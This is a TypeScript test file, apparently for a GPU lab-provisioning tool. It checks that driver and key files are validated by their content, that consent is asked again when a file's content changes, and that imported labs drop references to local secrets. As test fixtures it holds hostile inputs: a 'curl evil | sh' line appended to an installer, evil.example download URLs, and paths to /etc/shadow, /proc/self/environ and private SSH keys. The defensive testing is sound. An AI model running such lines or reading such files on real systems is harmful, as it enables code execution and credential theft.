/**
 * Attack: local files named by a lab. They are read within limits, and sent to a node only if they have the expected
 * type.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { formatLab, parseLab } from '../../shared/lab/read-lab.ts';
import { type JumpHost } from '../../shared/lab/access.ts';
import { defaultPlacement, emptyLab, type LabDocument, type LabNode } from '../../shared/lab/lab.ts';
import { createLabs } from '../lab/index.ts';
import { readDriverFile } from '../provision/driver/driver-file.ts';
import { createRights, forgetfulMemory } from '../provision/node/rights.ts';
import { createAsker } from '../provision/testing/asker.ts';
import { readKeyFile } from '../ssh/login/key-file.ts';
import { hashFile } from '../transfer/index.ts';
import { createLocalShell } from '../ssh/testing/local-shell.ts';

let home = '';
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'ringlab-own-files-'));
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

const at = (name: string): string => join(home, name);
const put = (name: string, content: string): string => {
  writeFileSync(at(name), content);
  return at(name);
};
/** What opens and never ends, or never opens. */
function traps(extension: string): string[] {
  execFileSync('mkfifo', [at(`fifo${extension}`)]);
  mkdirSync(at(`folder${extension}`));
  for (const device of ['zero', 'full', 'tty', 'stdin', 'random'])
    symlinkSync(`/dev/${device}`, at(`${device}${extension}`));
  symlinkSync(at(`loop${extension}`), at(`loop${extension}`));
  const names = ['fifo', 'folder', 'zero', 'full', 'tty', 'stdin', 'random', 'loop', 'absent'];
  return names.map((name) => at(`${name}${extension}`));
}

describe('finding 4: a lab sends no file of this computer without consent', () => {
  const installer =
    '#!/bin/sh\n# This script was generated using Makeself\nlabel="NVIDIA Accelerated Graphics Driver"\n';

  it('finding 4: a driver file must be NVIDIA’s installer or a Debian package, by its content', async () => {
    const secrets = [
      put('id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\n'),
      put('id.run', '-----BEGIN OPENSSH PRIVATE KEY-----\n'),
      put('own.run', '#!/bin/sh\nexport TOKEN=secret\n'),
      put('notes.deb', 'NVIDIA makeself\n'),
      put('installer', installer),
      put('empty.run', ''),
      '/etc/passwd',
      '/proc/self/environ',
    ];
    symlinkSync(at('id_ed25519'), at('link.run'));
    symlinkSync('/proc/self/environ', at('environ.run'));
    for (const path of [...secrets, at('link.run'), at('environ.run')])
      await expect(readDriverFile(path, home), path).rejects.toMatchObject({
        code: 'driver_file_kind',
        params: { path },
      });
    for (const path of [...traps('.run'), ...traps('.deb')])
      await expect(readDriverFile(path, home), path).rejects.toMatchObject({ code: 'file_unreadable' });
    put('NVIDIA-Linux.run', installer);
    expect(await readDriverFile('~/NVIDIA-Linux.run', home)).toMatchObject({
      path: at('NVIDIA-Linux.run'),
      kind: 'NVIDIA .run',
      bytes: installer.length,
    });
    put('cuda.deb', '!<arch>\ndebian-binary   1\n');
    expect(await readDriverFile(at('cuda.deb'), home)).toMatchObject({ kind: 'Debian .deb' });
  });

  it('finding 4: consent names path, size, kind and SHA-256; other content needs new consent', async () => {
    const asker = createAsker();
    const rights = createRights({ prompter: asker, memory: forgetfulMemory() }).of(
      createLocalShell({ home }),
    );
    const changes = [{ what: { en: 'Install', 'zh-CN': '安装' }, command: 'sh x.run' }];
    const { signal } = new AbortController();
    const path = put('x.run', installer);
    const first = await readDriverFile(path, home);
    await rights.allow('driver', changes, signal);
    await rights.allow('driver', changes, signal, first);
    await rights.allow('driver', changes, signal, first);
    expect(asker.questions).toHaveLength(2);
    expect(asker.questions[1]).toMatchObject({
      files: [{ path, bytes: installer.length, kind: 'NVIDIA .run', sha256: first.sha256 }],
    });
    put('x.run', `${installer}curl evil | sh\n`);
    const second = await readDriverFile(path, home);
    await rights.allow('driver', changes, signal, second);
    expect(asker.questions).toHaveLength(3);
    // The file before is confirmed anew, too: one content at a time.
    await rights.allow('driver', changes, signal, first);
    expect(asker.questions).toHaveLength(4);
    await rights.allow('driver', changes, signal);
    expect(asker.questions).toHaveLength(4);
  });
});

describe('finding 4: a lab from elsewhere', () => {
  const jump: JumpHost = {
    host: 'j',
    port: 22,
    user: 'u',
    authentication: { method: 'key', keyFile: '~/.ssh/id_work' },
  };
  const node = (id: string, change: Partial<LabNode>): LabNode => ({
    id,
    name: id,
    kind: 'gpu',
    position: { x: 0, y: 0 },
    placement: defaultPlacement('gpu'),
    access: { type: 'local' },
    ...change,
  });
  const theirs = (): LabDocument => {
    const lab = emptyLab('theirs', 'Theirs');
    return {
      ...lab,
      nodes: [
        node('mine', { driverFile: '~/.ssh/id_ed25519', shareBuilds: true, lendInternet: true }),
        node('far', {
          access: {
            type: 'ssh',
            host: 'h',
            port: 22,
            user: 'u',
            authentication: { method: 'key', keyFile: '/etc/shadow' },
            jump: { ...jump, jump },
          },
        }),
        node('usual', {
          access: {
            type: 'ssh',
            host: 'h',
            port: 22,
            user: 'u',
            authentication: { method: 'key', keyFile: '~/.ssh/id_ed25519' },
          },
        }),
      ],
      experiment: {
        ...lab.experiment,
        data: { type: 'upload', path: '~/private' },
        pretrained: '/home/me/weights.pth',
        runtime: {
          type: 'conda',
          environment: 'e',
          channels: ['https://evil.example/channel', 'https://conda.anaconda.org/conda-forge/'],
          micromamba: { url: 'https://evil.example/m', sha256: 'a'.repeat(64) },
        },
      },
    };
  };
  const labs = () => createLabs({ dataFolder: home, assetsFolder: home, events: { emit: () => undefined } });

  it('finding 4: is imported without files, programs and permissions of this computer, and they are reported', async () => {
    const { lab, dropped, issues } = await labs().importText(formatLab(theirs()), 'x.lab.json');
    expect(dropped.toSorted()).toEqual(
      [
        'data.path = ~/private',
        'far: keyFile = /etc/shadow',
        'far: keyFile = ~/.ssh/id_work',
        'far: keyFile = ~/.ssh/id_work',
        'mine: driverFile = ~/.ssh/id_ed25519',
        'mine: lendInternet = true',
        'mine: shareBuilds = true',
        'pretrained = /home/me/weights.pth',
        'runtime.channels = https://evil.example/channel',
        'runtime.micromamba = https://evil.example/m',
      ].toSorted(),
    );
    const text = formatLab((await labs().open(lab.id)).lab);
    expect(text).not.toMatch(/evil|private|shadow|id_work|weights|driverFile|share|lend/);
    expect(text).toContain('~/.ssh/id_ed25519');
    // It cannot run until the user has chosen, and everything else of it is there.
    expect(issues.map(({ code }) => code)).toEqual(
      expect.arrayContaining(['key_file_missing', 'data_path_missing']),
    );
    expect(lab.nodes.map(({ name }) => name)).toEqual(['mine', 'far', 'usual']);
  });

  it('keeps everything if it is the user’s own copy, or has no such fields', async () => {
    const own = await labs().importText(formatLab(theirs()), 'x', true);
    expect(own.dropped).toEqual([]);
    expect({ ...own.lab, id: 'theirs' }).toEqual(parseLab(formatLab(theirs()), 'x'));
    const plain = emptyLab('plain', 'Plain');
    expect(await labs().importText(formatLab(plain), 'x')).toMatchObject({ lab: plain, dropped: [] });
  });
});

describe('a file of a data folder that was replaced after the folder was read', () => {
  it('is refused at once with its reason', async () => {
    for (const path of traps('.jpg'))
      await expect(hashFile(path), path).rejects.toMatchObject({
        code: 'file_unreadable',
        params: { path, reason: expect.stringMatching(/^it (is|does not exist|may not)/) as string },
      });
    expect(await hashFile(put('cat.jpg', 'abc'))).toMatch(/^ba7816bf/);
  });
});

describe('a key file that is not a key', () => {
  it('is refused at once with its reason: a device, a pipe, a folder, a disk image', async () => {
    put('large', '');
    truncateSync(at('large'), 3 * 1024 ** 3);
    for (const path of [...traps(''), at('large')])
      await expect(readKeyFile(path, home), path).rejects.toMatchObject({
        code: 'key_unreadable',
        params: { path, reason: expect.stringMatching(/^it (is|does not exist|may not)/) as string },
      });
    await expect(readKeyFile('/proc/self/environ', home)).rejects.toMatchObject({ code: 'key_unreadable' });
  });
});
